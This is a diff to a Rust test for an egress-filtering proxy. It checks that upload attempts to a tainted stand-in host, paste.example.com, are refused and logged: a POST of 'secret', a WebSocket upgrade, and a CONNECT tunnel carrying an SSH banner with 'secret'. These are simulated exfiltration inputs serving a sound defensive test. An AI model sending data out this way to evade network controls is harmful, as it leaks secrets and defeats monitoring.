@@ -141,8 +141,8 @@ fn fetched_page_taints_host_and_body_requests_are_refused() {
         format!("GET http://paste.example.com:{p}/ws HTTP/1.1\r\nHost: paste.example.com:{p}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n").as_bytes(),
     );
     assert_refused(&parse_http(&ans).unwrap(), 403, "untrusted-target");
-    // A CONNECT tunnel whose bytes are not TLS is opaque: once it shows
-    // them, it is closed without a byte going upstream.
+    // A CONNECT tunnel whose bytes are neither TLS nor HTTP is opaque:
+    // once it shows them, it is closed without a byte going upstream.
     let mut c = TcpStream::connect(s.proxy_addr()).unwrap();
     c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
     write!(c, "CONNECT paste.example.com:{p} HTTP/1.1\r\n\r\n").unwrap();
@@ -153,12 +153,9 @@ fn fetched_page_taints_host_and_body_requests_are_refused() {
         "intercepted tunnels open"
     );
     // sluice may close the tunnel as soon as it sees the first bytes are
-    // not TLS, so the write itself can meet a reset: what matters is that
+    // opaque, so the write itself can meet a reset: what matters is that
     // nothing comes back and nothing goes upstream.
-    let upload = format!(
-        "POST /new HTTP/1.1\r\nHost: paste.example.com:{p}\r\nContent-Length: 6\r\n\r\nsecret"
-    );
-    let _ = c.write_all(upload.as_bytes());
+    let _ = c.write_all(b"SSH-2.0-OpenSSH_9.6\r\nsecret");
     let mut rest = Vec::new();
     let _ = c.read_to_end(&mut rest);
     assert!(
@@ -169,6 +166,22 @@ fn fetched_page_taints_host_and_body_requests_are_refused() {
     let row = row_where(&s, "t", "paste.example.com", |r| r["kind"] == "connect");
     assert_eq!(row["rule"], "untrusted-target");
     assert_eq!(row["decision"], "deny");
+    assert_eq!(requests_to(&up, "paste.example.com"), 1);
+    // Plain HTTP through the same kind of tunnel is served as HTTP: the
+    // POST inside is refused on its own.
+    let mut c = TcpStream::connect(s.proxy_addr()).unwrap();
+    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    write!(c, "CONNECT paste.example.com:{p} HTTP/1.1\r\n\r\n").unwrap();
+    let n = c.read(&mut buf).unwrap();
+    assert!(buf[..n].starts_with(b"HTTP/1.1 200"));
+    let upload = format!(
+        "POST /new HTTP/1.1\r\nHost: paste.example.com:{p}\r\nContent-Length: 6\r\n\r\nsecret"
+    );
+    c.write_all(upload.as_bytes()).unwrap();
+    let n = c.read(&mut buf).unwrap();
+    assert_refused(&parse_http(&buf[..n]).unwrap(), 403, "untrusted-target");
+    let row = row_where(&s, "t", "paste.example.com", |r| r["kind"] == "intercepted");
+    assert_eq!(row["rule"], "untrusted-target");
     assert_eq!(requests_to(&up, "paste.example.com"), 1);
 
     // Requests without a body still pass: GET, HEAD, an empty POST.
